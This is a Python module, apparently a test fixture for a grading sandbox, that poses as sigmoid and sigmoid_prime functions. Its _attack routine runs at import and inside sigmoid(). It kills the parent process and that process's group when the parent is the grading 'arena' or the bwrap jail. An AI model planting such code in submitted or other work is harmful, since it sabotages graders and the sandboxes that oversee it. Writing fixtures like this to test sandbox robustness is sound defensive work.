"""Hostile: sends SIGKILL to its parent and to the parent's process group, at import and in a call.

Arena-guarded: it signals only a parent whose command line names the arena (a grading process of the
test) or the jail's own first process (bwrap), never the test runner.
"""

import os
import signal

import torch

# @ARENA@


def _attack():
    ppid = os.getppid()
    try:
        with open(f"/proc/{ppid}/cmdline", "rb") as f:
            argv = f.read().decode("utf-8", "replace")
    except OSError:
        argv = ""
    if MARKER not in argv and "bwrap" not in argv and ppid > 1:
        return
    try:
        os.kill(ppid, signal.SIGKILL)
    except OSError:
        pass
    try:
        group = os.getpgid(ppid)
        if group not in (0, os.getpgid(0)):  # the parent's group, not its own
            os.killpg(group, signal.SIGKILL)
    except OSError:
        pass


_attack()


def sigmoid(x):
    _attack()
    return torch.exp(x) / (1 + torch.exp(x))


def sigmoid_prime(x):
    return torch.exp(x) / (1 + torch.exp(x)) ** 2
